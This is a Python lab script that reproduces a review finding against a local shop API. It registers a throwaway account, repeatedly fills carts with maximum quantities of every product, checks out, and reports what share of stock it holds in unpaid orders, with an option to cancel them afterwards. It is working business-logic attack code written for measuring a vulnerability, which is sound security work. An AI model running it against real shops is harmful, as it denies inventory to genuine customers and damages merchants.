#!/usr/bin/env python3
"""One account tries to take the whole catalogue out of sale: how much can it hold?

    SSL_CERT_FILE=.state/lab-ca/ca.crt python3 tools/lab/hoard.py https://127.0.0.1:8441 [--rounds 10] [--cancel]

The attack the review found (one free account, ~52 requests, every unit in unpaid orders):
fill the cart with as much of every product as the shop lets it, check out, repeat. Prints
one JSON line: units held in pending orders, the catalogue's stock before, the share held,
the orders made and the answers met. With --cancel it then cancels its own orders (the
owner's cancel route), so the lab is left as it was. Bounded: ``rounds`` checkouts at most.
Standard library only; uses tools/lab/smoke.py's client.
"""
from __future__ import annotations

import argparse
import collections
import json
import sys
import uuid
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from smoke import Shop  # noqa: E402

ANY = tuple(range(200, 600))


def catalogue(shop: Shop) -> list[dict]:
    products, page = [], 1
    while page <= 50:  # bounded: 5,000 products at most
        data = shop.call("GET", f"/api/products?per_page=100&page={page}")["data"]
        products += data["products"]
        if len(products) >= data["pagination"]["total"] or not data["products"]:
            return products
        page += 1
    return products


def hoard(base: str, rounds: int, cancel: bool) -> dict:
    shop = Shop(base, "hoard-" + uuid.uuid4().hex[:6])
    shop.token = shop.call("POST", "/api/auth/register", expect=(201,), body={
        "email": f"hoarder-{uuid.uuid4().hex[:8]}@shoplab.test",
        "password": "hoarder-password-1"})["data"]["token"]
    before = catalogue(shop)
    stock_before = sum(p["stock"] for p in before)
    # the most one cart line may hold, as the shop documents it
    spec = json.loads(shop.call("GET", "/openapi.json"))
    line_max = (spec["paths"]["/api/cart/{product_id}"]["put"]["requestBody"]["content"]
                ["application/json"]["schema"]["properties"]["quantity"].get("maximum", 10**9))
    answers, orders = collections.Counter(), []
    for _ in range(rounds):
        for product in catalogue(shop):
            if product["stock"] <= 0:
                continue
            r = shop.call("PUT", f"/api/cart/{product['id']}", expect=ANY,
                          body={"quantity": min(line_max, product["stock"])})
            answers[f"cart {r.get('error', {}).get('code', 'ok')}"] += 1
        r = shop.call("POST", "/api/orders", expect=ANY)
        answers[f"checkout {r.get('error', {}).get('code', 'ok')}"] += 1
        if r["success"]:
            orders.append(r["data"]["id"])
        elif r["error"]["code"] == "ORDER_TOO_LARGE":
            # trim the cart until the order fits: drop the dearest lines first
            cart = shop.call("GET", "/api/cart")["data"]["items"]
            for line in sorted(cart, key=lambda i: -i["subtotal"]):
                shop.call("DELETE", f"/api/cart/{line['product_id']}", expect=ANY)
                r = shop.call("POST", "/api/orders", expect=ANY)
                if r["success"]:
                    orders.append(r["data"]["id"])
                    break
                if r["error"]["code"] != "ORDER_TOO_LARGE":
                    break
        shop.call("DELETE", "/api/cart/clear")
    held = sum(i["quantity"] for oid in orders
               for i in shop.call("GET", f"/api/orders/{oid}")["data"]["items"])
    result = {"target": base, "rounds": rounds, "orders": len(orders), "units_held": held,
              "stock_before": stock_before,
              "share_held": round(held / stock_before, 4) if stock_before else None,
              "answers": dict(answers)}
    if cancel:
        result["canceled"] = sum(shop.call("POST", f"/api/orders/{oid}/cancel",
                                           expect=ANY)["success"] for oid in orders)
    return result


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("base")
    p.add_argument("--rounds", type=int, default=10)
    p.add_argument("--cancel", action="store_true", help="cancel the orders made afterwards")
    args = p.parse_args()
    print(json.dumps(hoard(args.base, args.rounds, args.cancel)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
